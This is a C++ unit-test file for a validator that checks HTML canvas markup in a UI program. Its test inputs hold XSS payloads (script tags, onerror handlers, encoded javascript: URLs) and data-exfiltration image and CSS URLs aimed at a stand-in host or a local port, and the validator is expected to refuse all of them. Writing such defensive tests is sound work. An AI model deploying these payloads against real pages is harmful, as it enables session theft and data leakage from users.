// Product semantic checks (src/surface/validate.h, html_canvas.h).
#include "surface/validate.h"
#include "surface/html_canvas.h"

#include <gtest/gtest.h>

#include <algorithm>

namespace affordance::surface {
namespace {

std::vector<std::string> Codes(std::string_view program, ValidationOptions options = {}) {
  std::vector<std::string> out;
  for (const auto& e : ValidateProgram(program, Library::Default(), options).errors)
    out.push_back(e.code);
  return out;
}

std::string Canvas(const std::string& markup) {
  std::string escaped;
  for (char c : markup) {
    if (c == '"' || c == '\\') escaped += '\\';
    escaped += c;
  }
  return "root = Html(\"" + escaped + "\")\n";
}

using Codes_ = std::vector<std::string>;

TEST(SurfaceValidate, SeedCanvasWithMountsIsValid) {
  Validation v = ValidateProgram(
      "events = Query(\"calendar_events\", { range: \"next_week\" }, { rows: [] })\n"
      "create = Mutation(\"calendar_create\", { title: $title, start: $start })\n"
      "save = Button(\"Stage event\", Action([@Run(create)]))\n"
      "root = Html(\"<main>{{#each events}}{{title}}{{/each}}<div data-mount='save'/></main>\",\n"
      "{ events: events.rows },\n[HtmlMount(\"save\", save)])\n",
      Library::Default(),
      ValidationOptions{std::vector<std::string>{"calendar_events", "calendar_create"}});
  EXPECT_TRUE(v.ok()) << (v.errors.empty() ? "" : v.errors[0].message);
}

TEST(SurfaceValidate, ScriptElementsAreRejected) {
  EXPECT_EQ(Codes(Canvas("<p>x</p><SCRIPT>alert(1)</SCRIPT>")), Codes_{"runtime-script"});
  EXPECT_EQ(Codes(Canvas("<svg><script href='x'></script></svg>")), Codes_{"runtime-script"});
  EXPECT_EQ(Codes(Canvas("<iframe src='https://example.com'></iframe>")),
            (Codes_{"runtime-script", "external-url"}));
  ValidationOptions none;
  Validation v = ValidateProgram(Canvas("<script>x</script>"), Library::Default(), none);
  ASSERT_EQ(v.errors.size(), 1u);
  EXPECT_EQ(v.errors[0].message,
            "the Html canvas may not contain a <script> element: no script runs inside a canvas");
  EXPECT_EQ(v.errors[0].statement_id, "root");
}

TEST(SurfaceValidate, EventHandlerAttributesAreRejectedByTokenizingNotSearching) {
  EXPECT_EQ(Codes(Canvas("<img src=x onerror=alert(1)>")), Codes_{"runtime-handler"});
  EXPECT_EQ(Codes(Canvas("<a/onclick='go()'>x</a>")), Codes_{"runtime-handler"});
  EXPECT_EQ(Codes(Canvas("<div ONMOUSEOVER=\"x\">")), Codes_{"runtime-handler"});
  // Text and attribute values that merely mention handlers or script are fine.
  EXPECT_TRUE(
      Codes(
          Canvas(
              "<p title=\"onclick=script\">onload &lt;script&gt; javascript:</p><!-- <script> -->"))
          .empty());
}

TEST(SurfaceValidate, ScriptUrlsAreRejectedEvenWhenEncoded) {
  EXPECT_EQ(Codes(Canvas("<a href='javascript:alert(1)'>x</a>")), Codes_{"runtime-url"});
  EXPECT_EQ(Codes(Canvas("<a href=' JaVa&#x09;Script&colon;alert(1)'>x</a>")),
            Codes_{"runtime-url"});
  EXPECT_EQ(Codes(Canvas("<a href='&#106;avascript:x'>x</a>")), Codes_{"runtime-url"});
  EXPECT_EQ(Codes(Canvas("<iframe srcdoc='&lt;script&gt;x&lt;/script&gt;'>")),
            (Codes_{"runtime-script", "runtime-script"}));
  // A whole-URL placeholder could also become another host (issue 43, item 2): both are named.
  EXPECT_EQ(Codes("root = Html(\"<a href='{{u}}'>x</a>\", {u: \"javascript:alert(1)\"})\n"),
            (Codes_{"external-url", "runtime-url"}));
  EXPECT_EQ(Codes("root = Stack([Button(\"x\", Action([@OpenUrl(\"javascript:alert(1)\")]))])\n"),
            Codes_{"runtime-url"});
  EXPECT_TRUE(Codes(Canvas("<a href='/docs/javascript:'>x</a>")).empty());
  // In CSS too: a script URL is refused as one, never read as a path on this server.
  EXPECT_EQ(Codes(Canvas("<p style='background:url(JavaScript:alert(1))'>x</p>")),
            Codes_{"runtime-url"});
}

// Issue 43, item 2: a canvas that loads from another host carries what it shows there. Every URL
// form a browser follows is refused, however it is spelled.
TEST(SurfaceValidate, ExternalUrlsAreRejectedInEveryFormABrowserLoads) {
  const char* kExternal[] = {
      // The repro: every row's summary in an image URL.
      "<img src='http://127.0.0.1:9/x?d={{#each events.rows}}{{summary}}|{{/each}}'>",
      "<img src='https://e.example/x'>",
      "<img SRC='HTTPS://E.EXAMPLE/x'>",
      "<img src='//e.example/x'>",
      "<img src='\\\\e.example/x'>",
      "<img src='/\\e.example/x'>",
      "<img src=' ht&#9;t&#10;p://e.example/x'>",
      "<img src='&#104;ttp://e.example/x'>",
      "<img src='http&colon;//e.example/x'>",
      "<img src='&#x2F;&#x2F;e.example/x'>",
      "<img srcset='/a.png 1x, https://e.example/b.png 2x'>",
      "<picture><source srcset='//e.example/a.png'></picture>",
      "<link rel='stylesheet' href='https://e.example/x.css'>",
      "<a href='https://e.example/?d={{summary}}'>x</a>",
      "<a ping='/ok https://e.example/p' href='/x'>x</a>",
      "<video poster='https://e.example/p.png'></video>",
      "<audio src='ftp://e.example/a'></audio>",
      "<svg><image href='https://e.example/i.png'/></svg>",
      "<svg><use xlink:href='https://e.example/s.svg#a'/></svg>",
      "<svg><rect fill='url(https://e.example/#p)'/></svg>",
      "<style>body{background:url(http://e.example/y)}</style>",
      "<STYLE>body{background:URL('//e.example/y')}</STYLE>",
      "<style>body{background:\\75 rl(http://e.example/y)}</style>",
      "<style>body{background:u\\rl(http://e.example/y)}</style>",
      "<style>body{background:url(ht/**/tp://e.example)}</style>",
      "<style>@import 'x.css';</style>",
      "<style>@font-face{font-family:f;src:url(https://e.example/f.woff)}</style>",
      "<div style=\"background-image: url( 'https://e.example/i' )\"></div>",
      "<div style='background:image-set(\"https://e.example/a.png\" 1x)'></div>",
      "<div style='background:url(&quot;https://e.example/a&quot;)'></div>",
      "<base href='https://e.example/'>",
      "<meta http-equiv='refresh' content='0;url=https://e.example/'>",
      // A placeholder that could choose the host or scheme.
      "<img src='{{u}}'>",
      "<img src='/{{u}}'>",
      "<img src='h{{u}}'>",
      "<div style='background:url({{u}})'></div>",
  };
  for (const char* markup : kExternal) {
    const auto codes = Codes(Canvas(markup));
    EXPECT_NE(std::find(codes.begin(), codes.end(), "external-url"), codes.end()) << markup;
  }
  // This server's own paths, data: images, fragments and placeholders past the path's start are
  // fine, as is text that merely mentions a URL.
  const char* kLocal[] = {
      "<img src='/assets/logo.png'>",
      "<img src='img/{{id}}.png'>",
      "<img src='/api/x/{{id}}'>",
      "<a href='#{{id}}'>x</a>",
      "<a href='?q={{q}}'>x</a>",
      "<img src='data:image/png;base64,AAAA'>",
      "<img srcset='/a.png 1x, /b.png 2x'>",
      "<p title='https://e.example'>see https://e.example</p>",
      "<style>p{color:red;background:url(/assets/bg.png)}</style><p style='color:blue'>x</p>",
  };
  for (const char* markup : kLocal) EXPECT_TRUE(Codes(Canvas(markup)).empty()) << markup;
  Validation v = ValidateProgram(Canvas("<img src='https://e.example/x'>"), Library::Default(), {});
  ASSERT_EQ(v.errors.size(), 1u);
  EXPECT_EQ(v.errors[0].message,
            "attribute src loads https://e.example/x; a canvas loads nothing from another host "
            "(only this server's own paths, data: images, and {{placeholders}} after the path "
            "starts)");
  // Inside a srcdoc too.
  EXPECT_EQ(Codes(Canvas("<iframe srcdoc=\"&lt;img src='https://e.example'&gt;\"></iframe>")),
            (Codes_{"runtime-script", "external-url"}));
}

TEST(SurfaceValidate, CanvasMarkupMustBeLiteralAndMountsNeedSlots) {
  EXPECT_EQ(Codes("root = Html(\"<p>\" + $x + \"</p>\")\n"), Codes_{"html-not-literal"});
  EXPECT_EQ(Codes("root = Html(\"<div data-mount='a'></div>\", {}, [HtmlMount(\"b\", "
                  "TextContent(\"x\"))])\n"),
            Codes_{"mount-without-slot"});
}

TEST(SurfaceValidate, QueriesAndMutationsMustNameRegisteredHandles) {
  const char* program =
      "root = Stack([])\nq = Query(\"list\", {}, {})\nm = Mutation(\"drop_all\", {})\n"
      "n = Mutation(tool, {})\ntool = \"x\"\n";
  ValidationOptions options{std::vector<std::string>{"list"}};
  Validation v = ValidateProgram(program, Library::Default(), options);
  ASSERT_EQ(v.errors.size(), 2u);
  EXPECT_EQ(v.errors[0].code, "unknown-handle");
  EXPECT_EQ(v.errors[0].message,
            "Mutation(\"drop_all\") names no registered handle; registered: list");
  EXPECT_EQ(v.errors[0].statement_id, "m");
  EXPECT_EQ(v.errors[1].code, "handle-not-literal");
}

TEST(SurfaceValidate, EmptyProgramsAndProseAreErrors) {
  EXPECT_EQ(Codes("just some prose\n"), (Codes_{"non-statement", "empty-program"}));
}

TEST(SurfaceHtml, CollectsMountSlots) {
  HtmlScan s = ScanHtml("<div data-mount=a></div><span DATA-MOUNT=\"b\"/>");
  EXPECT_EQ(s.mount_slots, (std::vector<std::string>{"a", "b"}));
  EXPECT_TRUE(s.problems.empty());
}

}  // namespace
}  // namespace affordance::surface
